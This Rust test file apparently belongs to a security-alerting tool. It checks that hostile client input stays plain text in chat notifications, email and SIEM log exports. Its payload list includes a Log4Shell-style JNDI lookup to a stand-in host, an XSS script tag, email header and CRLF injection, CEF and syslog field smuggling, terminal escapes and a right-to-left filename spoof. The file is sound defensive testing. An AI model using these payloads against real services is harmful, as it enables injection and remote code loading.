//! What clients may write, in everything that leaves: each sign that means something somewhere, in each place.

use jiff::tz::TimeZone;
use palisade::event::{Severity, Timestamp, is_hidden, printable};
use palisade::notify::{AlertConfig, Desk, Due, ExportConfig, Format, Message, News, Route, Via, open, open_sink};
use serde_json::Value;

use super::email::Server;
use super::{KEY, alert, finding, real_servers_or_skip, secret};
use crate::support::standin::{Answer, Standin};

/// Signs with a meaning: in chats, in mail, in HTML, in logs, in CEF, in structured data, in templates, in terminals.
const SIGNS: &[&str] = &[
    "<!channel>",
    "<!here|here>",
    "<@U123>",
    "<https://192.0.2.1|log in>",
    "@everyone",
    "@here <@&1> <#2>",
    "[log in](http://192.0.2.1)",
    "```",
    "**b** _i_ ~~s~~ ||x|| `c` > # - *",
    ":rotating_light:",
    "\r\nBcc: x@example.com\r\n\r\nbody",
    "\nX-Priority: 1",
    "=?utf-8?B?QmNj?=",
    "<script>alert(1)</script>",
    "<b>&lt;&amp;&#60;",
    "' onmouseover='x\" style=\"",
    "|CEF:0|x|y|1|id|name|10|",
    " src=192.0.2.9 act=none msg=",
    "\\",
    "\"] [other@1 x=\"",
    "\"",
    "]",
    "<13>1 2026-01-05T00:00:00Z h a - - - x",
    "12 <13>1 -",
    "{host} {{ }} {nonsense}",
    "\u{1b}[2J\u{1b}]0;t\u{7}",
    "\u{202e}gpj.exe\u{2066}",
    "\u{200b}\u{feff}\u{2028}\u{85}",
    "\0\u{8}\u{7f}\u{9b}",
    "é\u{1f480}e\u{301}",
    "=1+1",
    "%0d%0a%00",
    "${jndi:ldap://192.0.2.1/a}",
];

/// Each of them alone, twice, behind a backslash, before one, and within a word.
fn payloads() -> Vec<String> {
    let of = |sign: &&str| {
        [sign.to_string(), format!("{sign}{sign}"), format!("\\{sign}"), format!("{sign}\\"), format!("/a{sign}z")]
    };
    SIGNS.iter().flat_map(of).collect()
}

/// Somebody who wrote `text` wherever he could.
fn by(text: &str) -> News {
    News {
        uri: text.into(),
        user_agent: text.into(),
        reason: format!("args: {text}"),
        source: format!("/var/log/{text}"),
        rule_ids: vec![text.into(), "r2".into()],
        method: text.into(),
        case_id: "c1".into(),
        ..finding("f1")
    }
}

/// What people are told of it.
fn told(news: News) -> Message {
    let config = AlertConfig { title: "{host}: {headline} {request}".into(), ..alert("slack", "") };
    let route = Route::new(&config, TimeZone::UTC, "web-1", "https://palisade.example.com").unwrap();
    let (mut desk, now) = (Desk::default(), Timestamp(1_767_571_200_123));
    desk.take(&route, News { severity: Severity::Critical, ..news }, now);
    match desk.due(&route, now) {
        Some(Due::Deliver(message)) => message,
        other => panic!("{other:?}"),
    }
}

/// Whether nothing in it moves a terminal's cursor or turns text around.
fn is_shown_as_it_is(text: &str) -> bool {
    !text.chars().any(|c| is_hidden(c) && c != '\n')
}

#[test]
fn a_message_has_the_lines_that_it_would_have_anyway() {
    let plain = told(by("plain"));
    for payload in payloads() {
        let message = told(by(&payload));
        assert!(is_shown_as_it_is(&message.text) && is_shown_as_it_is(&message.title), "{message:#?}");
        assert!(!message.title.contains('\n'), "{message:#?}");
        let names = |message: &Message| -> Vec<String> {
            message.text.lines().map(|line| line.split(": ").next().unwrap().to_owned()).collect()
        };
        assert_eq!(names(&message), names(&plain), "{payload:?}");
        assert_eq!(message.url.as_deref(), Some("https://palisade.example.com/case/c1"));
    }
}

#[tokio::test]
async fn whatever_a_client_writes_is_text_in_every_channel() {
    for channel in ["slack", "discord", "webhook", "pushover", "ntfy"] {
        let standin = Standin::start();
        standin.otherwise(|_| Answer::text(200, "{}"));
        let config = AlertConfig {
            key: secret(KEY),
            to: vec!["u1".into()],
            ..alert(channel, &format!("{}/services/topic", standin.url()))
        };
        let opened = open(&config).unwrap();
        let mut shape = None;
        for text in std::iter::once("plain".to_owned()).chain(payloads()) {
            let (message, before) = (told(by(&text)), standin.requests().len());
            opened.deliver(&message).await.unwrap();
            let (mut title, mut shown) = (String::new(), String::new());
            for request in standin.requests().split_off(before) {
                let body = request.json();
                let (heading, part) = match channel {
                    "slack" => of_slack(&body),
                    "discord" => of_discord(&body),
                    "webhook" => (text_of(&body["message"]["title"]), text_of(&body["message"]["text"])),
                    _ => (text_of(&body["title"]), text_of(&body["message"])),
                };
                (title, shown) = (heading, shown + &part);
                assert!(!["html", "monospace"].iter().any(|key| body.get(key).is_some()), "{channel}: {body}");
                assert_ne!(body["markdown"], true);
                // Nothing of it is a header, a path or a key.
                let seen = (request.path.clone(), headers_of(&request.headers), keys_of(&body));
                assert_eq!(*shape.get_or_insert_with(|| seen.clone()), seen, "{channel}: {text:?}");
            }
            assert_eq!(shown, message.text, "{channel} shows it as it is");
            // Of a long one the beginning, with the number of the part where there are several.
            let title = title.rsplit_once(" (").filter(|_| channel == "pushover").map_or(&*title, |(title, _)| title);
            assert!(message.title.starts_with(title.trim_end_matches('…')), "{channel}: {title} of {}", message.title);
        }
    }
}

fn headers_of(headers: &[(String, String)]) -> Vec<String> {
    headers.iter().map(|(name, _)| name.clone()).collect()
}

fn keys_of(body: &Value) -> Vec<String> {
    body.as_object().unwrap().keys().cloned().collect()
}

fn text_of(value: &Value) -> String {
    value.as_str().unwrap().to_owned()
}

/// Title and text, of which Slack interprets nothing.
fn of_slack(body: &Value) -> (String, String) {
    let blocks = body["blocks"].as_array().unwrap();
    let (link, others) = blocks.split_last().unwrap();
    assert_eq!(link["text"]["text"], "<https://palisade.example.com/case/c1|The case>");
    assert!(others.iter().all(|block| block["text"]["type"] == "plain_text" && block["text"]["emoji"] == false));
    assert_eq!((&body["mrkdwn"], &body["unfurl_links"]), (&false.into(), &false.into()));
    assert_eq!(body.to_string().matches('<').count(), 1, "the link's alone: {body}");
    let text =
        |block: &Value| text_of(&block["text"]["text"]).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&");
    (text(&others[0]), others[1..].iter().map(text).collect())
}

/// The same of Discord: the title without its backslashes, the text out of its block.
fn of_discord(body: &Value) -> (String, String) {
    assert_eq!((&body["allowed_mentions"]["parse"], body.get("content")), (&serde_json::json!([]), None));
    let (mut title, mut is_escaped) = (String::new(), false);
    for c in body["embeds"][0]["title"].as_str().unwrap().chars() {
        if c == '\\' && !is_escaped {
            is_escaped = true;
            continue;
        }
        assert!(is_escaped || !"*_~`|>#[]()<@:".contains(c), "{c:?} means something: {body}");
        is_escaped = false;
        title.push(c);
    }
    let block = text_of(&body["embeds"][0]["description"]);
    let text = block.strip_prefix("```\n").and_then(|text| text.strip_suffix("\n```")).unwrap();
    assert!(!text.contains("```"), "{text}");
    (title, text.replace('\u{2060}', ""))
}

#[tokio::test]
async fn no_mail_has_a_header_or_markup_of_a_client() {
    if !real_servers_or_skip("the test of hostile mail") {
        return;
    }
    let server = Server::start("starttls");
    let opened = open(&server.config()).unwrap();
    let mut shape = None;
    let payloads = SIGNS.iter().map(ToString::to_string);
    for (index, text) in std::iter::once("plain".to_owned()).chain(payloads).enumerate() {
        let message = told(by(&text));
        opened.deliver(&message).await.unwrap();
        let mail = server.mail(index as u32 + 1);
        let headers: Vec<(String, String)> = serde_json::from_value(mail["headers"].clone()).unwrap();
        let subject = &headers.iter().find(|(name, _)| name == "Subject").unwrap().1;
        assert_eq!(*subject, message.title.replace("=?", "= ?"), "{text:?}");
        assert_eq!(mail["to"], serde_json::json!(["ops@example.com", "night@example.com"]));
        let part = |name: &str| mail["parts"][name].as_str().unwrap().replace("\r\n", "\n");
        assert!(part("text/plain").starts_with(&message.text), "{text:?}: {}", part("text/plain"));
        let html = part("text/html");
        let seen = (headers_of(&headers), html.matches('<').count(), html.matches('"').count());
        assert_eq!(*shape.get_or_insert_with(|| seen.clone()), seen, "headers, tags, attributes: {text:?}: {html}");
        assert!(!html.contains("<script") && !html.contains("<b>"), "{html}");
    }
}

/// The one record of `news` in each format: CEF, ECS and OCSF as lines of a file, RFC 5424 as a datagram.
async fn records(all: &[News], format: Format) -> Vec<String> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("to");
    let via = if format == Format::Rfc5424 { Via::Syslog } else { Via::File };
    let scheme = if via == Via::File { "file" } else { "unix" };
    let config = ExportConfig {
        name: "siem".into(),
        via,
        format: Some(format),
        url: secret(format!("{scheme}://{}", path.display())),
        ..ExportConfig::default()
    };
    let heard = (via == Via::Syslog).then(|| tokio::net::UnixDatagram::bind(&path).unwrap());
    let mut sink = open_sink(&config, "web-1").unwrap();
    let Some(heard) = heard else {
        sink.send(all).await.unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        return text.split_terminator('\n').map(str::to_owned).collect();
    };
    let mut records = vec![];
    for one in all {
        sink.send(std::slice::from_ref(one)).await.unwrap();
        let mut bytes = vec![0; 9000];
        let length = heard.recv(&mut bytes).await.unwrap();
        records.push(String::from_utf8(bytes[..length].to_vec()).unwrap());
    }
    records
}

/// As [`records`] of a plain one, and of each payload with it.
async fn plain_and_hostile(format: Format) -> (String, Vec<(String, String)>) {
    let payloads = payloads();
    let all: Vec<News> = std::iter::once(by("plain")).chain(payloads.iter().map(|text| by(text))).collect();
    let mut records = records(&all, format).await;
    assert_eq!(records.len(), all.len(), "{format:?}: one line each");
    let plain = records.remove(0);
    (plain, payloads.into_iter().zip(records).collect())
}

#[tokio::test]
async fn in_cef_no_client_adds_a_field() {
    let (plain, hostile) = plain_and_hostile(Format::Cef).await;
    let (_, plain) = of_cef(&plain);
    let names = |fields: &[(String, String)]| fields.iter().map(|(name, _)| name.clone()).collect::<Vec<_>>();
    for (payload, line) in hostile {
        assert!(is_shown_as_it_is(&line), "{line}");
        let (header, fields) = of_cef(&line);
        assert_eq!((header.len(), &*header[0], &*header[1]), (7, "CEF:0", "Palisade"), "{line}");
        assert_eq!(names(&fields), names(&plain), "{line}");
        let field = |name: &str| fields.iter().find(|(known, _)| known == name).unwrap().1.clone();
        let shown = printable(payload.as_bytes(), 1000);
        assert_eq!(
            (field("request"), field("requestClientApplication"), field("src")),
            (shown.clone(), shown, "203.0.113.5".into())
        );
    }
}

/// Header and fields, as a reader of CEF takes them apart.
fn of_cef(line: &str) -> (Vec<String>, Vec<(String, String)>) {
    let (mut header, mut one, mut chars) = (vec![], String::new(), line.chars());
    while header.len() < 7 {
        match chars.next().expect("a whole header") {
            '\\' => one.push(chars.next().unwrap()),
            '|' => header.push(std::mem::take(&mut one)),
            c => one.push(c),
        }
    }
    let mut fields: Vec<(String, String)> = vec![];
    let mut value = String::new();
    // What of `value` was escaped cannot end a name.
    let mut plain_from = 0;
    let mut chars = chars.peekable();
    loop {
        match chars.next() {
            Some('\\') => {
                value.push(chars.next().unwrap());
                plain_from = value.len();
            }
            Some('=') => {
                let at = value.rfind(' ').map_or(0, |at| at + 1);
                assert!(at >= plain_from || value[at..].chars().all(char::is_alphanumeric), "{line}");
                let name = value.split_off(at);
                if let Some((_, last)) = fields.last_mut() {
                    *last = value.trim_end_matches(' ').to_owned();
                }
                value = String::new();
                plain_from = 0;
                fields.push((name, String::new()));
            }
            Some(c) => value.push(c),
            None => {
                if let Some((_, last)) = fields.last_mut() {
                    *last = value;
                }
                return (header, fields);
            }
        }
    }
}

#[tokio::test]
async fn in_structured_data_no_client_adds_a_parameter() {
    let (plain, hostile) = plain_and_hostile(Format::Rfc5424).await;
    let names = |fields: &[(String, String)]| fields.iter().map(|(name, _)| name.clone()).collect::<Vec<_>>();
    let plain = names(&of_syslog(&plain));
    for (payload, message) in hostile {
        assert!(is_shown_as_it_is(&message) && !message.contains('\n'), "{message}");
        let fields = of_syslog(&message);
        assert_eq!(names(&fields), plain, "{message}");
        let uri = &fields.iter().find(|(name, _)| name == "uri").unwrap().1;
        assert_eq!(*uri, printable(payload.as_bytes(), 1500));
    }
}

/// The parameters of a message's one element, as a reader of RFC 5424 takes them apart.
fn of_syslog(message: &str) -> Vec<(String, String)> {
    let mut rest = message.split_once(" [palisade@32473").expect("our element").1;
    let mut fields = vec![];
    while let Some(field) = rest.strip_prefix(' ') {
        let (name, after) = field.split_once("=\"").unwrap();
        let (mut value, mut chars) = (String::new(), after.char_indices());
        rest = loop {
            match chars.next().expect("an end") {
                (_, '\\') => value.push(chars.next().unwrap().1),
                (at, '"') => break &after[at + 1..],
                (_, c) => {
                    assert_ne!(c, ']', "{message}");
                    value.push(c);
                }
            }
        };
        fields.push((name.to_owned(), value));
    }
    assert!(rest.starts_with("] "), "{message}");
    fields
}

#[tokio::test]
async fn in_json_it_is_a_value_as_it_was_logged() {
    for (format, request, agent) in [
        (Format::Ecs, "/url/original", "/user_agent/original"),
        (Format::Ocsf, "/evidences/0/http_request/url/url_string", "/evidences/0/http_request/user_agent"),
    ] {
        for (payload, line) in plain_and_hostile(format).await.1 {
            assert!(!line.chars().any(is_hidden), "{line}");
            let record: Value = serde_json::from_str(&line).unwrap();
            let at = |pointer: &str| record.pointer(pointer).and_then(Value::as_str).unwrap();
            assert_eq!((at(request), at(agent)), (&*payload, &*payload), "{format:?}");
        }
    }
}
